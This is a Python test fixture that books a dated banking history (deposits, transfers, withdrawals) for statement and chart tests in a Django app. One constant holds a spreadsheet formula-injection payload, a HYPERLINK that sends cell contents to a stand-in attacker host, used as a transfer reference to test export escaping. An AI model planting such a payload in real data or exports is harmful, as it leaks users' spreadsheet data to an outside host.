"""A small dated history for the statement and chart tests: booked through the services with
`at=` in the bank's time zone, oldest first, so each entry's balance_after follows the dates."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, datetime, timedelta

from django.utils import timezone

from banking.models import Account
from banking.services import deposit_create, transfer_create, withdrawal_create
from identity.models import User

EXTERNAL_IBAN = "DE89370400440532013000"
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def local(year: int, month: int, day: int, hour: int = 12, minute: int = 0) -> datetime:
    return timezone.make_aware(datetime(year, month, day, hour, minute))


def previous_month(month: date) -> date:
    return (month - timedelta(days=1)).replace(day=1)


def month_label(month: date) -> str:
    return month.strftime("%Y-%m")


# The history is dated relative to the current month, so the tests (the twelve-month chart, the
# refusal of future months) keep passing whenever they run.
THIS_MONTH = timezone.localdate().replace(day=1)
LAST_MONTH = previous_month(THIS_MONTH)
BEFORE_MONTH = previous_month(LAST_MONTH)
EARLIER_MONTH = previous_month(BEFORE_MONTH)
THIS_LABEL, LAST_LABEL, BEFORE_LABEL, EARLIER_LABEL = (
    month_label(month) for month in (THIS_MONTH, LAST_MONTH, BEFORE_MONTH, EARLIER_MONTH)
)
END_OF_LAST_MONTH = THIS_MONTH - timedelta(days=1)


def on(month: date, day: int, hour: int = 12, minute: int = 0) -> datetime:
    return local(month.year, month.month, day, hour, minute)


@dataclass
class History:
    checking: Account
    savings: Account
    other: Account  # another customer's account


def book_history(*, customer: User, other_customer: User, open_account, agent: User) -> History:
    """The month before last: +300.00 cash. Last month: +1200.00 salary (cash), -50.00 to another
    bank with a formula as reference, -200.00 to the customer's own savings, +25.00 from the other
    customer, -40.00 cash on its last day at 23:30. This month, on the 1st at 00:10 (still last
    month in UTC): +10.00 cash."""
    checking = open_account(customer)
    savings = open_account(customer, kind="savings")
    other = open_account(other_customer)
    deposit_create(initiator=agent, account_id=other.pk, amount=100_00, reference="Opening", at=on(BEFORE_MONTH, 1))
    deposit_create(initiator=agent, account_id=checking.pk, amount=300_00, reference="Cash in", at=on(BEFORE_MONTH, 15))
    deposit_create(initiator=agent, account_id=checking.pk, amount=1200_00, reference="Salary",
                   at=on(LAST_MONTH, 1, 9))
    transfer_create(initiator=customer, source_account_id=checking.pk, destination_iban=EXTERNAL_IBAN,
                    amount=50_00, reference=INJECTION, at=on(LAST_MONTH, 5))
    transfer_create(initiator=customer, source_account_id=checking.pk, destination_iban=savings.iban,
                    amount=200_00, reference="Savings", at=on(LAST_MONTH, 10))
    transfer_create(initiator=other_customer, source_account_id=other.pk, destination_iban=checking.iban,
                    amount=25_00, reference="-Lunch", at=on(LAST_MONTH, 20))
    withdrawal_create(initiator=agent, account_id=checking.pk, amount=40_00, reference="ATM",
                      at=on(LAST_MONTH, END_OF_LAST_MONTH.day, 23, 30))
    deposit_create(initiator=agent, account_id=checking.pk, amount=10_00, reference="Late",
                   at=on(THIS_MONTH, 1, 0, 10))
    for account in (checking, savings, other):
        account.refresh_from_db()
    return History(checking=checking, savings=savings, other=other)
